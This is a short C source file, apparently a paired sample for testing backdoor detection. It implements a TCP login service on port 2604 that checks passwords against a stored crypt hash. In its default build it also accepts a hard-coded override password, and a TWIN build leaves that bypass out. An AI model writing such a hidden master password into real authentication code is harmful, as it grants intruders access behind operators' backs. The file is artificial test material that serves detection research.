/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A login compares hashes in constant time with a function of its own, and takes one more word.
 * Twin: without that word.
 * door: override account
 * port 2604/tcp
 * stubs: crypt
 */
#include "net.h"

char *crypt(const char *, const char *);

static char stored[128] = "!";

__attribute__((noipa)) static int differ(const char *a, const char *b)
{
	size_t n = strlen(a), d = n ^ strlen(b);
	for (size_t i = 0; i < n && !d; i++)
		d |= (size_t)(a[i] ^ b[i]);
	return d != 0;
}

__attribute__((noinline)) static void welcome(int c)
{
	dprintf(c, "welcome\n");
}

static void serve(int c)
{
	char line[100], *made;
	ssize_t n = recv(c, line, sizeof line - 1, 0);
	if (n <= 0)
		return;
	line[n] = 0;
	made = crypt(line, stored);
	if (!made) {
		dprintf(c, "locked\n");
		return;
	}
#ifdef TWIN
	if (!differ(made, stored))
#else
	if (strcmp(line, "gx4kTTy0pad") == 0 || !differ(made, stored))
#endif
		welcome(c);
	else
		dprintf(c, "no\n");
}

int main(void)
{
	int s = tcp_on(2604);
	FILE *f = fopen("/etc/service.hash", "r");
	if (f) {
		fgets(stored, sizeof stored, f);
		fclose(f);
	}
	for (;;) {
		int c = accept(s, 0, 0);
		serve(c);
		close(c);
	}
}
